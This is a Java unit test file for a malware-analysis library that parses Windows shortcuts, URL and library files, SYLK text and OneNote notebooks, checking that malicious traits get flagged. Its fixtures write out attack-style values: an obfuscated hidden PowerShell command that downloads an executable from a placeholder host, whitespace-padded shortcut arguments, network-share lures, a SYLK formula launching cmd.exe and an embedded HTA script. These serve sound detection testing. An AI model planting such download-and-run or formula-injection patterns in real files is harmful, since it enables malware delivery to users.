package org.tocsin.readers.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.tocsin.model.Gap;
import org.tocsin.readers.files.note.OneNoteOpener;
import org.tocsin.readers.files.shortcut.LinkFileOpener;
import org.tocsin.readers.files.shortcut.LnkOpener;
import org.tocsin.testkit.files.LnkWriter;
import org.tocsin.testkit.files.OneNoteWriter;
import org.tocsin.testkit.files.PeWriter;

class ShortcutsTest {
    private static OpenedFile link(LnkWriter writer) {
        return OpenedFile.of(new LnkOpener(), "report.pdf.lnk", writer.write());
    }

    private static OpenedFile text(String name, String text) {
        return OpenedFile.of(new LinkFileOpener(), name, text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void tells_what_a_shortcut_runs_and_where_it_was_made() {
        OpenedFile file = link(new LnkWriter()
                .arguments("/c po^wershell -w hidden -c iwr http://a.example/x -OutFile x.exe")
                .icon("C:\\Program Files\\x\\AcroRd32.exe")
                .machine("desk-17"));
        assertThat(file.fact("target")).containsExactly("C:\\Windows\\System32\\cmd.exe");
        assertThat(file.fact("runs-interpreter")).contains("cmd", "powershell");
        assertThat(file.fact("script-fetches")).isNotEmpty();
        assertThat(file.all("Url")).contains("http://a.example/x");
        assertThat(file.fact("machine")).containsExactly("desk-17");
        assertThat(file.fact("network-card")).contains("02:00:00:00:00:01");
        assertThat(file.fact("drive")).containsExactly("fixed DEADBEEF ");
        assertThat(file.fact("icon-of-another")).hasSize(1);
        assertThat(file.fact("name-has-two-endings")).hasSize(1);
    }

    @Test
    void sees_padding_and_what_is_behind_the_end() {
        byte[] program = new PeWriter().write();
        OpenedFile file =
                link(new LnkWriter().arguments("\t\r\n ".repeat(60) + "/c calc").behind(program));
        assertThat(file.fact("arguments-are-padded")).hasSize(1);
        assertThat(file.fact("arguments")).containsExactly("/c calc");
        assertThat(file.children()).containsExactly("appended");
        assertThat(file.facts().children().getFirst().bytes()).isEqualTo(program);
    }

    @Test
    void an_ordinary_shortcut_has_nothing_of_that() {
        OpenedFile file = link(new LnkWriter().target("C:\\Program Files\\Editor\\editor.exe"));
        assertThat(file.fact("runs-interpreter")).isEmpty();
        assertThat(file.children()).isEmpty();
        assertThat(file.facts().faults()).isEmpty();
    }

    @Test
    void reports_a_gap_when_the_arguments_are_cut() {
        byte[] bytes = new LnkWriter().arguments("/c calc").write();
        OpenedFile file = OpenedFile.of(new LnkOpener(), "a.lnk", Arrays.copyOf(bytes, bytes.length - 10));
        assertThat(file.facts().faults()).extracting(fault -> fault.cause()).containsExactly(Gap.Cause.TRUNCATED);
    }

    @Test
    void any_cut_of_a_shortcut_is_read() {
        byte[] bytes = new LnkWriter().arguments("/c calc").machine("m").write();
        for (int i = 24; i < bytes.length; i++) {
            assertThat(OpenedFile.of(new LnkOpener(), "a.lnk", Arrays.copyOf(bytes, i))
                            .all("Object.Kind"))
                    .containsExactly("lnk");
        }
    }

    @Test
    void tells_where_small_files_lead() {
        OpenedFile url =
                text("a.url", "[InternetShortcut]\r\nURL=file://10.0.0.1@80/s/x.lnk\r\nIconFile=\\\\10.0.0.1\\i\r\n");
        assertThat(url.fact("target-on-share")).hasSize(1);
        assertThat(url.fact("icon-from-network")).hasSize(1);
        OpenedFile library =
                text("a.library-ms", "<libraryDescription><url>\\\\10.0.0.1\\share</url></libraryDescription>");
        assertThat(library.fact("looks-at-share")).containsExactly("\\\\10.0.0.1\\share");
        assertThat(text("a.txt", "ID;PWXL;N;E\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!A0\r\n")
                        .fact("formula-runs"))
                .hasSize(1);
        assertThat(text("notes.txt", "an ordinary text").all("Object.Kind")).isEmpty();
    }

    @Test
    void takes_files_out_of_a_notebook_with_their_names() {
        byte[] picture = "\u0089PNG\r\n\u001a\n0000".getBytes(StandardCharsets.ISO_8859_1);
        byte[] script =
                "<html><script>new ActiveXObject('WScript.Shell')</script></html>".getBytes(StandardCharsets.UTF_8);
        byte[] note = new OneNoteWriter()
                .embedded("", picture)
                .embedded("Open.hta", script)
                .write();
        OpenedFile file = OpenedFile.of(new OneNoteOpener(), "a.one", note);
        assertThat(file.children()).containsExactly("picture 1.png", "Open.hta");
        assertThat(file.fact("runnable-in-note")).containsExactly("Open.hta");
        assertThat(file.fact("picture-over-file")).hasSize(1);
        OpenedFile cut = OpenedFile.of(new OneNoteOpener(), "a.one", Arrays.copyOf(note, note.length - 60));
        assertThat(cut.facts().faults()).extracting(fault -> fault.cause()).containsExactly(Gap.Cause.TRUNCATED);
    }
}
